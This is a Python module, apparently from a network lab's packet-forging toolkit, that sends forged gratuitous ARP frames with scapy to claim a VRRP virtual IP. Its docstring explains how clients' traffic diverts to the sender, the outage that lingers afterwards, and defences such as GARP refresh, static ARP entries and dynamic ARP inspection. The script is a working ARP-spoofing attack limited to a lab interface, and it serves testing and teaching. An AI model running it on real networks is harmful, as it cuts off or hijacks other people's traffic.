"""Forged gratuitous ARP for a virtual IP: the clients' requests go to the attacker (``python -m lab.packets.arp_spoof``).

ARP has no authentication either. A gratuitous ARP says "this address is at
this MAC" to the whole LAN, unasked; a VRRP MASTER sends one when it takes
the VIP so that the switch and the clients learn where the VIP now is. Any
host can send the same frame with its own MAC. Linux hosts update an entry
they already have from such a frame (``arp_accept`` only governs new ones),
so every client that talks to the VIP starts sending its requests to the
attacker, whose kernel does not hold the VIP and drops them. Sent every
half second, the forgery wins over the MASTER's occasional GARPs.

When it stops, each client's entry still names the attacker. Linux notices
only when its own probes of that MAC go unanswered (the entry goes stale,
then 5 s of ``delay_first_probe_time``, then unicast probes), and asks again:
seconds of outage after the attack. The defences: a MASTER that repeats its
GARP every few seconds (keepalived ``garp_master_refresh``, halab's ``[vrrp]
garp_refresh``) heals the clients at its next GARP; static ARP entries for
the VIP on the clients ignore forgeries altogether; a switch with dynamic
ARP inspection drops them.

Bounded: one frame per VIP every ``--interval`` for at most ``--duration``
seconds, on the lab's own interface.

    python -m lab.packets.arp_spoof --iface c2-eth0 --vip 10.0.0.1 --interval 0.5
"""
from __future__ import annotations

import argparse
import sys

from lab.packets.forging import MAX_DURATION, repeat


def forged(mac: str, vips: list[str]) -> list[object]:
    """One gratuitous ARP reply per VIP: 'VIP is at MAC', to everyone (the frame a new MASTER sends, with our MAC)."""
    from scapy.all import ARP, Ether

    return [Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=mac, psrc=vip, hwdst="ff:ff:ff:ff:ff:ff", pdst=vip) for vip in vips]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m lab.packets.arp_spoof")
    parser.add_argument("--iface", required=True)
    parser.add_argument("--vip", action="append", required=True, help="a virtual IP to claim (repeat for several)")
    parser.add_argument("--interval", type=float, default=0.5, help="seconds between forged frames (at least 0.05)")
    parser.add_argument("--duration", type=float, default=MAX_DURATION)
    args = parser.parse_args(argv)
    from scapy.all import get_if_hwaddr

    sent = repeat(args.iface, forged(get_if_hwaddr(args.iface), args.vip), max(0.05, args.interval), args.duration)
    print(f"sent {sent} forged gratuitous ARPs", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
